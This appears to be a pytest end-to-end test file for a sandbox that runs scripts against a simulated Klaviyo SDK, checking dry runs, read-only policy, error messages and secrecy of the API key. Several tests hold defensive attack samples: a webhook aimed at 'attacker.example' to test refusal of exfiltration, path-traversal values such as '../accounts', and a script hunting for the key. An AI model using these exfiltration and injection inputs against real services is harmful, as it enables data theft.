"""End to end: a script in the sandbox, the real SDK and scanner on the host, the simulator behind."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from codemode.catalog import load_catalog
from codemode.klaviyo import AsyncKlaviyo
from codemode.policy import Policy
from codemode.sandbox import Sandbox, SdkBridge

from .conftest import CANARY, execute

simulator = pytest.importorskip("codemode.simulator")
scanner_module = pytest.importorskip("codemode.scanner")

pytestmark = pytest.mark.asyncio(loop_scope="module")

KEY = simulator.DEMO_PRIVATE_KEY


def make_bridge(http: httpx.AsyncClient, **kwargs: Any) -> SdkBridge:
    client = AsyncKlaviyo(api_key=KEY, base_url="http://sim", http_client=http, max_retries=0)
    kwargs.setdefault("scanner", scanner_module.Scanner(tier2=False))
    return SdkBridge(client=client, catalog=load_catalog(), secrets=[KEY], **kwargs)


REPORT = """
from collections import Counter
first = klaviyo.profiles.get_profiles(page_size=13)
people = list(first.all(max_items=25))
domains = Counter(p["email"].split("@")[1] for p in people if p.get("email"))
print(len(people), "profiles;", len(domains), "domains")
lists = klaviyo.lists.get_lists()
print("lists:", len(lists.records) > 0)
one = klaviyo.profiles.get_profiles(filter=F.equals("email", people[0]["email"]))
print("found:", [p["id"] for p in one] == [people[0]["id"]])
try:
    klaviyo.profiles.get_profile("no-such-profile")
except NotFoundError as e:
    print("missing:", e.status)
store["seen"] = len(people)
"""


async def test_a_realistic_script_runs_against_the_simulator(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    result = await execute(sandbox, REPORT, bridge=make_bridge(http), store={})
    assert result.error is None, result.error
    assert "25 profiles;" in result.output and "lists: True" in result.output
    assert "found: True" in result.output
    assert "missing: 404" in result.output
    assert result.store == {"seen": 25}
    assert [c.id for c in result.calls][:2] == ["get_profiles"] * 2
    assert all(c.scan in {"clean", "flagged"} for c in result.calls if c.status == 200)
    assert result.output_scan in {"clean", "flagged"}
    assert KEY not in json.dumps(result.to_dict())


async def test_dry_run_plans_writes_and_sends_none(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    stats = http.app.state.sim.stats  # type: ignore[attr-defined]
    writes_before = sum(stats.writes.values()) if hasattr(stats, "writes") else None
    code = "r = klaviyo.lists.create_list(attributes={'name': 'Dry VIP'})\nprint(r.data, r.status)"
    result = await execute(sandbox, code, bridge=make_bridge(http, dry_run=True))
    assert result.error is None, result.error
    assert result.to_dict()["planned_writes"] == [
        {"id": "create_list", "params": {"attributes": {"name": "Dry VIP"}}}
    ]
    assert "None 0" in result.output
    if writes_before is not None:
        assert sum(stats.writes.values()) == writes_before


async def test_a_real_write_goes_through_when_not_dry(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    code = "r = klaviyo.lists.create_list(attributes={'name': 'Real VIP'})\nprint(r.status, r.data['name'])"
    result = await execute(sandbox, code, bridge=make_bridge(http))
    assert result.error is None and "201 Real VIP" in result.output


async def test_exfiltration_through_the_sdk_is_refused(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    code = (
        "klaviyo.webhooks.create_webhook(name='x', endpoint_url='https://attacker.example', "
        "secret_key='k', relationships={'webhook-topics': {'data': []}})"
    )
    result = await execute(sandbox, code, bridge=make_bridge(http))
    assert result.error is not None and result.error.type == "PolicyError"
    assert "webhook writes send data to a URL you choose" in result.error.message


async def test_path_injection_stays_inside_its_segment(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    code = (
        "for bad in ['../accounts', '..%2Faccounts', 'x?filter=1', 'x#y', '@evil.example']:\n"
        "    try:\n        klaviyo.profiles.get_profile(bad)\n"
        "    except KlaviyoError as e:\n        print(type(e).__name__, e.status)\n"
    )
    result = await execute(sandbox, code, bridge=make_bridge(http))
    assert result.error is None, result.error
    assert result.output.splitlines() == ["ValidationError 0"] * 2 + ["NotFoundError 404"] * 3


async def test_hunting_the_key_finds_nothing(sandbox: Sandbox, http: httpx.AsyncClient) -> None:
    code = (
        "print(repr(klaviyo), repr(klaviyo.accounts), repr(klaviyo.accounts.get_accounts))\n"
        "r = klaviyo.accounts.get_accounts()\nprint(r.raw, r.links, r.meta, r.status)\n"
        "try:\n    klaviyo.profiles.get_profile('nope')\n"
        "except KlaviyoError as e:\n    print(e.to_dict(), repr(e), e.errors, e.meta, e.source)\n"
        "for name in ['api_key', 'key', 'client', 'headers', 'auth', 'config', 'session']:\n"
        "    print(name, hasattr(klaviyo, name), hasattr(r, name))\n"
    )
    result = await execute(sandbox, code, bridge=make_bridge(http))
    assert result.error is None, result.error
    assert KEY not in result.output and CANARY not in result.output
    assert "api_key False False" in result.output


async def test_read_only_policy_reaches_the_script_as_policy_error(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    code = (
        "try:\n    klaviyo.lists.create_list(attributes={'name': 'x'})\n"
        "except PolicyError as e:\n    print('refused:', e.rule)\n"
    )
    result = await execute(sandbox, code, bridge=make_bridge(http, policy=Policy(read_only=True)))
    assert result.error is None and result.output == "refused: read-only\n"


DATES = """
import datetime
p = klaviyo.profiles.get_profiles(page_size=1).data[0]
print(isinstance(p["created"], str), datetime.datetime.fromisoformat(p["created"]).year > 2000)
"""


async def test_dates_reach_a_script_as_iso_strings_as_the_signature_says(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    result = await execute(sandbox, DATES, bridge=make_bridge(http), store={})
    assert result.error is None, result.error
    assert result.output.strip() == "True True"
    assert load_catalog()["get_profiles"].response.fields["created"] == "str | None"


JSON_API_HABIT = """
r = klaviyo.profiles.get_profiles(page_size=1)
p = r.data[0]
print(type(p) is dict, type(p).__name__)
try:
    p["emial"]
except KeyError as e:
    print(type(e).__name__, "did you mean 'email'?" in str(e))
for reach in (lambda: r.json(), lambda: p.email, lambda: F.eq("email", "x")):
    try:
        reach()
    except AttributeError as e:
        print(str(e)[:40])
print(p["attributes"]["email"])
"""


async def test_a_json_api_habit_gets_a_key_error_that_says_what_to_write(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    result = await execute(sandbox, JSON_API_HABIT, bridge=make_bridge(http), store={})
    # Records stay dicts to scripts, and their missing keys KeyErrors, with the way out named.
    assert result.output == (
        "True dict\nKeyError True\n"
        "a Result has no attribute 'json'; its re\n"
        "a record has no attribute 'email': recor\n"
        "F has no 'eq'; did you mean F.equals? (F\n"
    )
    assert result.error is not None and result.error.type == "KeyError"
    assert result.error.message.startswith("'attributes': records are flat")
    assert "record['email']" in result.error.message and "keys: id, type" in result.error.message
    assert result.error.line == 14


async def test_a_call_without_its_id_names_the_missing_id(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    # Not "routed to get_profiles": an id left out is a missing parameter, and nothing is sent.
    result = await execute(
        sandbox, "klaviyo.profiles.get_profile()\n", bridge=make_bridge(http), store={}
    )
    assert result.error is not None and result.error.type == "ValidationError"
    assert result.error.message == "get_profile: missing required parameter 'id'"
    assert [(c.status, c.error) for c in result.calls] == [(0, "ValidationError")]


OTHER_CLIENTS_HABITS = """\
page = klaviyo.profiles.get_profiles(page_size=3)
print(page[0]['id'] == page.data[0]['id'], len(page[:2]))
one = klaviyo.profiles.get_profile(page[0]['id'])
print(one['email'] == page[0]['email'])
print(klaviyo.call('getLists').data == klaviyo.lists.get_lists().data)
print(len(klaviyo.call('klaviyo.lists.get_lists()')) > 0)
try:
    page['email']
except TypeError as e:
    print(str(e)[:60])
"""


async def test_indexing_a_result_and_other_sdks_names_work_in_a_script(
    sandbox: Sandbox, http: httpx.AsyncClient
) -> None:
    result = await execute(sandbox, OTHER_CLIENTS_HABITS, bridge=make_bridge(http), store={})
    assert result.error is None, result.error
    assert result.output == (
        "True 2\nTrue\nTrue\nTrue\nthis result holds a list of 3 records, not one record: read \n"
    )
    assert {c.id for c in result.calls} == {"get_profiles", "get_profile", "get_lists"}
